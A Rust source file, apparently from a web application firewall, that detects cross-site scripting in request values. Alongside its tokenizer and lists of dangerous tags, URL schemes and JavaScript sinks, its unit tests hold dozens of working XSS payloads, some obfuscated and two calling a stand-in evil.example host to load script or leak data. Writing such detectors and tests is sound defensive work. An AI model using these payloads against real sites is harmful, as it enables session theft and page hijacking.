//! Cross-site scripting: an HTML tokenizer that finds tags and their attributes the way a
//! browser reads them, plus the places script runs without a tag: `javascript:` URLs,
//! event handlers injected into an existing attribute, and calls of the usual sinks.

use std::sync::LazyLock;

use crate::View;
use crate::literals::List;
use crate::rules;
use crate::shape::Shape;
use crate::{Hits, Patterns};

static PROBE_CALL: LazyLock<Patterns> = LazyLock::new(|| Patterns::new(JS_PROBE_CALLS));
static SINK: LazyLock<Patterns> = LazyLock::new(|| Patterns::new(JS_SINKS));

/// Tags that need no attribute to be dangerous.
const ACTIVE_TAGS: &[&str] = &[
    "script",
    // XSLT, which transforms the page and runs script (`<xsl:stylesheet>`).
    "stylesheet",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "base",
    "link",
    "meta",
    "style",
    "isindex",
    "xml",
    "import",
    "portal",
    "handler",
    "listener",
    "bgsound",
    "layer",
    "ilayer",
    "vmlframe",
    "plaintext",
    "xmp",
    "noscript",
    "set",
    "animate",
    "animatetransform",
    "animatemotion",
    "foreignobject",
];

/// Elements whose content the browser does not parse as markup until their closing tag.
const RAWTEXT_TAGS: &[&str] = &[
    "script", "style", "title", "textarea", "noscript", "xmp", "template", "iframe", "noembed",
    "noframes",
];

/// Attributes whose value is a URL a browser may run as script.
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "background",
    "dynsrc",
    "lowsrc",
    "xlink:href",
    "poster",
    "codebase",
    "srcdoc",
    "code",
    "value",
    "to",
    "from",
    "values",
    "content",
    "by",
    "folder",
    "ping",
    "profile",
    "cite",
    "longdesc",
    "usemap",
    "datasrc",
    "filter",
    "style",
];

/// DOM event names start with one of these after `on`.
pub(crate) const EVENT_STEMS: &[&str] = &[
    "abort",
    "activate",
    "after",
    "animation",
    "auxclick",
    "before",
    "begin",
    "blur",
    "bounce",
    "can",
    "cell",
    "change",
    "click",
    "close",
    "content",
    "context",
    "control",
    "copy",
    "cue",
    "cut",
    "dataavailable",
    "datasetc",
    "dblclick",
    "deactivate",
    "drag",
    "drop",
    "duration",
    "emptied",
    "end",
    "error",
    "filter",
    "finish",
    "focus",
    "form",
    "fullscreen",
    "gotpointer",
    "hash",
    "help",
    "input",
    "invalid",
    "key",
    "language",
    "layout",
    "load",
    "lose",
    "lostpointer",
    "media",
    "message",
    "mouse",
    "move",
    "mozfullscreen",
    "offline",
    "online",
    "open",
    "outofsync",
    "page",
    "paste",
    "pause",
    "play",
    "pointer",
    "popstate",
    "progress",
    "property",
    "rate",
    "readystate",
    "receive",
    "redo",
    "repeat",
    "reset",
    "resize",
    "resume",
    "reverse",
    "row",
    "scroll",
    "search",
    "seek",
    "select",
    "show",
    "stalled",
    "start",
    "stop",
    "storage",
    "submit",
    "suspend",
    "sync",
    "timeout",
    "timeupdate",
    "toggle",
    "touch",
    "track",
    "transition",
    "undo",
    "unhandled",
    "unload",
    "url",
    "user",
    "volume",
    "waiting",
    "webkit",
    "wheel",
    "zoom",
    "security",
    "slot",
    "message",
    "beforeunload",
];

/// Longest computed member name read between `top[` and `](`.
const MAX_COMPUTED_NAME: usize = 80;

/// Script schemes.
const SCRIPT_SCHEMES: &[&str] = &["javascript:", "vbscript:", "livescript:", "mocha:"];

/// The last letters of the script schemes' names.
static SCHEME_ENDS: [bool; 256] = {
    let mut ends = [false; 256];
    let mut i = 0;
    while i < SCRIPT_SCHEMES.len() {
        let scheme = SCRIPT_SCHEMES[i].as_bytes();
        ends[scheme[scheme.len() - 2] as usize] = true;
        i += 1;
    }
    ends
};

/// Calls that exist to prove script ran, or to run a string as code (CRS 941390 blocks the
/// same at level 1).
pub(crate) const JS_PROBE_CALLS: &[&str] = &[
    "alert(",
    "prompt(",
    "confirm(",
    // Called as a tagged template, or through parentheses.
    "alert`",
    "prompt`",
    "confirm`",
    "(alert)(",
    "(prompt)(",
    "(confirm)(",
    "eval(",
    "settimeout(",
    "setinterval(",
    "fromcharcode(",
    "document.write(",
    "document.cookie",
    "new function(",
    "execscript(",
];

/// Calls and properties that script injection often touches, and ordinary code sometimes.
pub(crate) const JS_SINKS: &[&str] = &[
    "document.domain",
    "window.location",
    "document.location",
    "innerhtml",
    "outerhtml",
    "settimeout(",
    "setinterval(",
    "constructor(",
    "atob(",
    "import(",
    "location.href",
    "location.hash",
    ".src=",
    "xmlhttprequest",
    "fetch(",
    "top[",
    "window[",
    "self[",
    "parent[",
    "globalthis",
    "onerror=",
    "print(",
];

/// `in_url`: the value came in the path, the query, a header or a cookie, where markup has no
/// business and any whole tag or comment is refused at paranoia level 1; in a body (where rich
/// text lives) only script-running markup is, and plain tags count at level 2.
pub(crate) fn scan(input: View<'_>, in_url: bool, hits: &mut Hits) {
    let (view, shape) = (input.text, input.shape);
    let bytes = view.as_bytes();
    if shape.has(b'<') {
        let mut reader = TagReader {
            in_url,
            last_close: memchr::memrchr(b'>', bytes),
            attribute_budget: ATTRIBUTE_READS * bytes.len() + 1024,
        };
        let mut i = 0;
        while let Some(off) = memchr::memchr(b'<', &bytes[i..]) {
            let at = i + off;
            // Every `<` is read as a tag start, also one inside another tag's attribute value
            // (`<x foo='?><script>'>`): browsers and filters disagree on where values end.
            tag(view, at, &mut reader, hits);
            i = at + 1;
        }
    }
    if shape.has(b':') {
        script_urls(view, hits);
    }
    // An attribute is looked for only where its name occurs: most values with a `=` are
    // query strings, whose letters would each start a search for `on` or `style`.
    let handler = input.found.has(List::EventHandler);
    let style = input.found.has(List::StyleAttribute);
    if shape.has(b'=') && (handler || style) {
        let first_exit = first_attribute_exit(bytes);
        if handler {
            injected_handlers(view, first_exit, hits);
        }
        if style {
            injected_style(view, first_exit, hits);
        }
    }
    if shape.any(const { Shape::bytes(b"(.[`") })
        && (input.found.has(List::ProbeCall) || input.found.has(List::Sink))
    {
        if let Some((_, pos)) = PROBE_CALL.find_iter(bytes).find(|(_, pos)| {
            *pos == 0 || !bytes[pos - 1].is_ascii_alphanumeric() && bytes[pos - 1] != b'_'
        }) {
            hits.add(&rules::XSS_JS_CALL, view, pos);
        }
        for (n, (sink, pos)) in SINK.find_iter(bytes).enumerate() {
            if n == 0 {
                hits.add(&rules::XSS_JS_SINK, view, pos);
            }
            // `top["al"+"ert"](1)`, `self[atob('...')]()`: a global object's member named by
            // an expression, then called — the way to call a function whose name is filtered.
            let from = pos + sink.len();
            if sink.ends_with('[')
                && crate::find(
                    &bytes[from..bytes.len().min(from + MAX_COMPUTED_NAME)],
                    b"](",
                )
                .is_some()
            {
                hits.add(&rules::XSS_JS_CALL, view, pos);
                break;
            }
        }
    }
}

fn is_html_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | 0x0c | 0x0b) || b < 0x20
}

/// How many times over, on average, a value's bytes may be read as attributes.
const ATTRIBUTE_READS: usize = 4;

/// What reading one value's tags carries from tag to tag.
struct TagReader {
    in_url: bool,
    /// Where the value's last `>` is: a tag is whole when one follows it, with no search per
    /// tag.
    last_close: Option<usize>,
    /// Attribute bytes left to read. Every `<` starts a tag, also one inside another tag's
    /// attribute value, so the same bytes can be read as attributes of many tags; the budget
    /// keeps the whole reading linear in the value. (Handlers written after a space are also
    /// found without reading tags, by `injected_handlers`.)
    attribute_budget: usize,
}

/// Reads a tag starting at `<`; returns where scanning continues.
fn tag(view: &str, at: usize, reader: &mut TagReader, hits: &mut Hits) -> usize {
    let in_url = reader.in_url;
    let bytes = view.as_bytes();
    let mut i = at + 1;
    if bytes.get(i) == Some(&b'!') {
        if view[i..].starts_with("!--") || view[i..].starts_with("![cdata[") {
            let rule = if in_url {
                &rules::XSS_URL_MARKUP
            } else {
                &rules::XSS_HTML_COMMENT
            };
            hits.add(rule, view, at);
        }
        return i;
    }
    // Processing instructions that load a stylesheet (XSLT runs script) or an IE behavior.
    if ["?xml-stylesheet", "?import", "?xml:namespace"]
        .iter()
        .any(|pi| view[i..].starts_with(pi))
    {
        hits.add(&rules::XSS_SCRIPT_TAG, view, at);
        return i;
    }
    if bytes.get(i) == Some(&b'/') {
        i += 1;
    }
    let name_start = i;
    while i < bytes.len()
        && (bytes[i].is_ascii_alphanumeric() || matches!(bytes[i], b':' | b'-' | b'_'))
    {
        i += 1;
    }
    if i == name_start || !bytes[name_start].is_ascii_alphabetic() {
        return i;
    }
    let name = &view[name_start..i];
    let name = name.rsplit(':').next().unwrap_or(name);
    // A tag name ends where a browser would end it: space, `/`, `>`, end of input, or a
    // control character some parsers skip.
    let boundary = bytes
        .get(i)
        .is_none_or(|&b| is_html_space(b) || b == b'/' || b == b'>');
    let closing = bytes[at + 1] == b'/';
    // Closing a raw-text element ends the script, style or title the value was put in.
    if closing && RAWTEXT_TAGS.contains(&name) {
        hits.add(&rules::XSS_RAWTEXT_BREAKOUT, view, at);
    }
    // For script-running tags any non-name character ends the name (`<script+src=`,
    // `<svg!onload=`): lenient parsers and the application's own decoding vary.
    let active = !closing && ACTIVE_TAGS.contains(&name);
    if !boundary && !active {
        return i;
    }
    if active {
        hits.add(&rules::XSS_SCRIPT_TAG, view, at);
    } else if in_url && reader.last_close.is_some_and(|close| close >= i) {
        // A whole tag: a dangling `<img src=` is a cut-off fragment more often than markup.
        hits.add(&rules::XSS_URL_MARKUP, view, at);
    } else {
        hits.add(&rules::XSS_HTML_TAG, view, at);
    }
    attributes(view, i, &mut reader.attribute_budget, hits)
}

/// Reads attributes up to `>`, or until the budget of bytes is spent; flags event handlers
/// and script URLs.
fn attributes(view: &str, mut i: usize, budget: &mut usize, hits: &mut Hits) -> usize {
    let bytes = view.as_bytes();
    let from = i;
    loop {
        let read = i - from;
        if read >= *budget {
            *budget = 0;
            return i;
        }
        while i < bytes.len()
            && (is_html_space(bytes[i])
                || bytes[i] == b'/'
                || bytes[i] == b'"'
                || bytes[i] == b'\'')
        {
            i += 1;
        }
        // A `<` inside a tag is a character of an attribute's name, as browsers read it: in
        // `<x </onxxx=1` the `/` after it ends that name, and `onxxx` is the next attribute.
        // Any other `<` is read as the start of a tag of its own (as every `<` is), and the
        // attributes after it are read there.
        let inner_name = bytes.get(i) == Some(&b'<') && bytes.get(i + 1) == Some(&b'/');
        if i >= bytes.len() || bytes[i] == b'>' || bytes[i] == b'<' && !inner_name {
            *budget -= read;
            return i;
        }
        let name_start = i;
        i += usize::from(inner_name);
        while i < bytes.len()
            && !is_html_space(bytes[i])
            && !matches!(bytes[i], b'/' | b'>' | b'=' | b'<')
        {
            i += 1;
        }
        let name = &view[name_start..i];
        // `x:ontimer`, `xlink:href`: the local name decides.
        let local = name.rsplit(':').next().unwrap_or(name);
        while i < bytes.len() && is_html_space(bytes[i]) {
            i += 1;
        }
        let mut value = "";
        if bytes.get(i) == Some(&b'=') {
            i += 1;
            while i < bytes.len() && is_html_space(bytes[i]) {
                i += 1;
            }
            let (start, end) = match bytes.get(i) {
                Some(&q @ (b'"' | b'\'' | b'`')) => {
                    let start = i + 1;
                    let end = memchr::memchr(q, &bytes[start..]).map_or(bytes.len(), |o| start + o);
                    i = (end + 1).min(bytes.len());
                    (start, end)
                }
                _ => {
                    let start = i;
                    while i < bytes.len() && !is_html_space(bytes[i]) && bytes[i] != b'>' {
                        i += 1;
                    }
                    (start, i)
                }
            };
            value = &view[start..end];
        }
        // Inside a tag every `on...` attribute is an event handler, known to us or not.
        let handler = local.len() > 4
            && local.starts_with("on")
            && local.bytes().skip(2).all(|b| b.is_ascii_alphabetic());
        if handler {
            hits.add(&rules::XSS_EVENT_HANDLER, view, name_start);
        } else if matches!(name, "datasrc" | "datafld" | "dataformatas") {
            // Internet Explorer data binding renders another element's content as HTML.
            hits.add(&rules::XSS_SCRIPT_URL, view, name_start);
        } else if URL_ATTRIBUTES.contains(&name) && !value.is_empty() {
            if starts_with_script_scheme(value) {
                hits.add(&rules::XSS_SCRIPT_URL, view, name_start);
            } else if (name == "style" || name == "filter") && style_runs_script(value) {
                hits.add(&rules::XSS_STYLE_SCRIPT, view, name_start);
            } else if name == "style" && style_injects(value) {
                hits.add(&rules::XSS_STYLE_INJECTION, view, name_start);
            } else if value.trim_start().starts_with("data:")
                && !value.trim_start()[5..].starts_with("image/png")
                && !value.trim_start()[5..].starts_with("image/jpeg")
                && !value.trim_start()[5..].starts_with("image/gif")
            {
                hits.add(&rules::XSS_SCRIPT_URL, view, name_start);
            }
        }
        if i == name_start {
            i += 1;
        }
    }
}

fn is_event_handler(name: &str) -> bool {
    let Some(rest) = name.strip_prefix("on") else {
        return false;
    };
    rest.len() >= 3
        && rest.bytes().all(|b| b.is_ascii_alphabetic())
        && EVENT_STEMS.iter().any(|s| rest.starts_with(s))
}

/// Whether a URL, once the characters browsers skip are gone, uses a script scheme.
fn starts_with_script_scheme(value: &str) -> bool {
    let mut compact = [0u8; 16];
    let mut n = 0;
    for &b in value.as_bytes() {
        if b <= 0x20 || b == 0x7f {
            continue;
        }
        compact[n] = b;
        n += 1;
        if n == compact.len() {
            break;
        }
    }
    let compact = &compact[..n];
    SCRIPT_SCHEMES
        .iter()
        .any(|s| compact.starts_with(s.as_bytes()))
        || compact.starts_with(b"data:text/html")
        || compact.starts_with(b"data:image/svg")
        || compact.starts_with(b"data:application")
}

fn style_runs_script(value: &str) -> bool {
    let compact: String = value
        .chars()
        .filter(|c| !c.is_whitespace() && *c != '\\')
        .take(4096)
        .collect();
    // CSS comments split keywords: `expr/**/ession(`.
    let compact = strip_css_comments(&compact);
    compact.contains("expression(")
        || compact.contains("behaviour:url")
        || compact.contains("binding:url")
        || compact.contains("javascript:")
        || compact.contains("behavior:")
        || compact.contains("-moz-binding")
        || compact.contains("@import")
}

/// A `style` attribute that loads a resource (`url(...)`: tracking, CSS exfiltration, SVG
/// resources), leaves its declaration block (`{`, `}`) to write rules of its own, or holds a
/// comment: an inline style needs none, and comments are how `ex/**/pression(` is split.
fn style_injects(value: &str) -> bool {
    value.contains("url(") || value.contains(['{', '}']) || value.contains("/*")
}

fn strip_css_comments(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find("/*") {
        out.push_str(&rest[..start]);
        match rest[start + 2..].find("*/") {
            Some(end) => rest = &rest[start + 2 + end + 2..],
            None => return out,
        }
    }
    out.push_str(rest);
    out
}

/// `javascript:` outside a tag: a value an application puts into `href` or `src`.
fn script_urls(view: &str, hits: &mut Hits) {
    let bytes = view.as_bytes();
    // Read back from each `:`, of which values hold few, rather than forward from each first
    // letter of each scheme.
    let mut from = 0;
    while let Some(off) = memchr::memchr(b':', &bytes[from..]) {
        let colon = from + off;
        from = colon + 1;
        // Each scheme is tried only when the letter before the colon (and the bytes browsers
        // skip there) ends one: most colons end `http` or `https`.
        let before = bytes[..colon].iter().rev().find(|&&b| b > 0x20);
        if !before.is_some_and(|&b| SCHEME_ENDS[usize::from(b)]) {
            continue;
        }
        let Some(start) = SCRIPT_SCHEMES
            .iter()
            .find_map(|scheme| scheme_before(bytes, colon, scheme.as_bytes()))
        else {
            continue;
        };
        // Followed by code, not prose: `javascript:alert(1)`, `javascript://%0a...`.
        let code = view[colon + 1..].trim_start();
        let is_code = code.starts_with("//")
            || code
                .bytes()
                .take(64)
                .take_while(|b| !b.is_ascii_whitespace())
                .any(|b| matches!(b, b'(' | b'[' | b'=' | b'.' | b'`' | b';' | b'\''));
        if is_code {
            hits.add(&rules::XSS_SCRIPT_URL, view, start);
            return;
        }
    }
}

/// Where a scheme's name starts when it ends just before the `:` at `colon`, spelled with the
/// characters browsers drop from URLs between its letters (`java\tscript:`) and before the
/// colon. `scheme` ends with its `:`.
fn scheme_before(bytes: &[u8], colon: usize, scheme: &[u8]) -> Option<usize> {
    let letters = &scheme[..scheme.len() - 1];
    let mut i = colon;
    while i > 0 && bytes[i - 1] <= 0x20 {
        i -= 1;
    }
    for (n, &letter) in letters.iter().enumerate().rev() {
        if n + 1 < letters.len() {
            while i > 0 && (bytes[i - 1] < 0x20 || bytes[i - 1] == 0x7f) {
                i -= 1;
            }
        }
        if i == 0 || bytes[i - 1] != letter {
            return None;
        }
        i -= 1;
    }
    Some(i)
}

/// Where the first quote, `>` or `/` is: any of them before an injected attribute lets it
/// leave the attribute the value was put in. Found once, for every attribute after it.
fn first_attribute_exit(bytes: &[u8]) -> Option<usize> {
    bytes
        .iter()
        .position(|b| matches!(b, b'"' | b'\'' | b'`' | b'>' | b'/'))
}

/// `" onmouseover=alert(1)`: an event handler added to the attribute the value lands in.
/// `first_exit` is [`first_attribute_exit`] of the value.
fn injected_handlers(view: &str, first_exit: Option<usize>, hits: &mut Hits) {
    let bytes = view.as_bytes();
    let mut from = 0;
    while let Some(off) = crate::find(&bytes[from..], b"on") {
        let start = from + off;
        from = start + 2;
        let before_ok = start == 0
            || matches!(bytes[start - 1], b'"' | b'\'' | b'`' | b'/' | b';' | b']')
            || is_html_space(bytes[start - 1]);
        if !before_ok {
            continue;
        }
        let mut i = start + 2;
        while i < bytes.len() && bytes[i].is_ascii_alphabetic() {
            i += 1;
        }
        let name = &view[start..i];
        while i < bytes.len() && is_html_space(bytes[i]) {
            i += 1;
        }
        if bytes.get(i) == Some(&b'=') && is_event_handler(name) {
            // Only when a quote or a space lets the value leave its attribute, or it is the
            // whole value.
            let breakout = start == 0
                || first_exit.is_some_and(|exit| exit < start)
                || is_html_space(bytes[start - 1]);
            if breakout {
                hits.add(&rules::XSS_ATTRIBUTE_BREAKOUT, view, start);
                return;
            }
        }
    }
}

/// `' style=x:expression(alert(1)) '`: a `style` attribute that runs script, written after
/// a quote or a space that leaves the attribute the value was put in. `first_exit` is
/// [`first_attribute_exit`] of the value.
fn injected_style(view: &str, first_exit: Option<usize>, hits: &mut Hits) {
    let bytes = view.as_bytes();
    let mut from = 0;
    while let Some(off) = crate::find(&bytes[from..], b"style") {
        let start = from + off;
        from = start + 5;
        let after_break = start > 0
            && (matches!(bytes[start - 1], b'"' | b'\'' | b'`' | b'/')
                || is_html_space(bytes[start - 1]))
            && first_exit.is_some_and(|exit| exit < start);
        let mut i = start + 5;
        while i < bytes.len() && is_html_space(bytes[i]) {
            i += 1;
        }
        if !after_break || bytes.get(i) != Some(&b'=') {
            continue;
        }
        let value = view[i + 1..].trim_start_matches(['"', '\'', ' ']);
        let end = value.find(['"', '\'', '>']).unwrap_or(value.len());
        if style_runs_script(&value[..end]) {
            hits.add(&rules::XSS_STYLE_SCRIPT, view, start);
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::Location;
    use crate::test_support::{families, families_at};

    fn xss(input: &str) -> bool {
        families(input, 1).contains(&"xss")
    }

    #[test]
    fn script_vectors_are_found() {
        for attack in [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"java&#x09;script:alert(1)\">x</a>",
            "<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus=alert(1) x='",
            "javascript:alert(document.cookie)",
            // Characters browsers drop inside a scheme and before its colon.
            "java\tscript:alert(1)",
            "java\u{1}scr\u{7f}ipt:alert(1)",
            "vbscript :msgbox(1)",
            "x=1&next=livescript:eval(name)",
            "mocha:[code]",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
            "<div style=\"width: expression(alert(1))\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "＜script＞alert(1)＜/script＞",
            "<body onload=alert(1)>",
            "<div style=\"background:url(http://evil.example/leak?c=1)\">x</div>",
            "<div style=\"font-family:foo}color=red;\">XXX</div>",
            "<?xml-stylesheet type=\"text/xsl\" href=\"#\"?>",
            "<xsl:stylesheet version=\"1.0\">",
            "top['al'+'ert'](1)",
            "self[atob('YWxlcnQ=')](1)",
            "alert`1`",
            "(confirm)(1)",
            "\" style=x:expression(alert(1)) x=\"",
            // Spaces between a name and its `=`, and a name that is the whole value's start.
            "x\" onclick \t=alert(1)",
            "onclick=alert(1)",
            "x' style  =x:expression(alert(1))",
        ] {
            assert!(xss(attack), "missed: {attack}");
        }
    }

    #[test]
    fn tags_written_as_entities_are_found() {
        // Only decoding shows these tags: no `<` or script call is spelled out. Each has a `/`
        // or `.`, so the literal search has read the value and must have seen the reference.
        for attack in [
            "&lt;b&gt;bold&lt;/b&gt;",
            "&LT;i&GT;see docs.example&LT;/i&GT;",
            "&#60;b&#62;x&#60;/b&#62;",
            "&#x3c;u&#x3e;x&#x3c;/u&#x3e;",
        ] {
            assert!(xss(attack), "missed: {attack}");
        }
    }

    #[test]
    fn attributes_added_to_a_value_the_literal_search_read_are_found() {
        // The `.` has the literal search read each value, which must have seen the names.
        for attack in ["x\" onmouseover=a.b y=\"", "x' style=x:expression(a.b) y='"] {
            assert!(xss(attack), "missed: {attack}");
        }
    }

    #[test]
    fn a_handler_after_tags_that_spend_the_attribute_budget_is_still_found() {
        // Each `<a x` in a quoted value starts a tag that reads all the attributes after it,
        // until the budget is spent; the handler at the end, after a space, is found without
        // reading its tag. (Plain tags in bodies count at paranoia 2 only.)
        let junk = " b='<a x'".repeat(3_000);
        assert!(families_at(&junk, Location::BodyValue, 1).is_empty());
        let value = format!("{junk} <img src=x onerror=alert(1)>");
        assert!(families_at(&value, Location::BodyValue, 1).contains(&"xss"));
    }

    #[test]
    fn attribute_names_are_cut_where_browsers_cut_them() {
        // A `<` belongs to the name it starts; the `/` after it ends that name.
        for (value, handler) in [
            ("<x </onxxx=1", true),
            ("<b </onclick=go()>x</b>", true),
            ("<x <onxxx=1>", false),
        ] {
            let in_body = families_at(value, Location::BodyValue, 1);
            assert_eq!(in_body.contains(&"xss"), handler, "{value}");
        }
    }

    #[test]
    fn a_comment_in_an_inline_style_is_refused_in_bodies_too() {
        for value in [
            "<a style='no\\xss:noxss(\"*//*\");",
            "<div style=\"font-family:'sans\\27\\2F\\2A\\22\\2A\\2F\\3B color\\3Ared\\3B'\">X</div>",
        ] {
            assert!(
                families_at(value, Location::BodyValue, 1).contains(&"xss"),
                "{value}"
            );
        }
        let plain = "<span style=\"color: red; font-weight: bold\">x</span>";
        assert!(families_at(plain, Location::BodyValue, 1).is_empty());
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for benign in [
            "a < b and c > d",
            "x<5",
            "I <3 cats",
            "javascript: the good parts",
            "java script:a.b",
            "the javascript scheme: (see below)",
            "see https://example.com/page?a=1&b=2",
            "once upon a time",
            "Tom & Jerry",
            "one=1",
            "the online store",
            "print this page",
            "alerts (3) pending",
            "the function evaluates(x)",
            "set the background with url(image.png) in your stylesheet",
            "Severity (alert) level",
            "top[3] (of 10)",
            "window[0] is the first frame",
            "style=modern",
            "my style: expression(joy)",
            // A handler's name inside a longer word, or given no value.
            "x\" xonclick=1",
            "x\" onclick 1",
            "x' mystyle=x:expression(1)",
        ] {
            assert!(!xss(benign), "false positive: {benign}");
        }
    }

    #[test]
    fn plain_markup_is_refused_in_urls_and_allowed_in_bodies() {
        for markup in [
            "<b>bold</b> text",
            "<span style=\"color:red\">warning</span>",
            "<a href=\"http://attacker.example/\">click</a>",
            "<h1>INJECTED</h1>",
            "<!-- IE 6-9 -->",
            "<![CDATA[x]]>",
        ] {
            assert!(xss(markup), "markup in a query passed: {markup}");
            let in_body = families_at(markup, Location::BodyValue, 1);
            assert!(
                !in_body.contains(&"xss"),
                "markup in a body refused: {markup}"
            );
        }
        // A tag cut off before its `>` is a fragment, not markup.
        for fragment in ["V1_OTHER\"><IMG CLASS=\"SIZE-FULL", "see the <img src="] {
            assert!(!xss(fragment), "fragment refused: {fragment}");
        }
    }
}
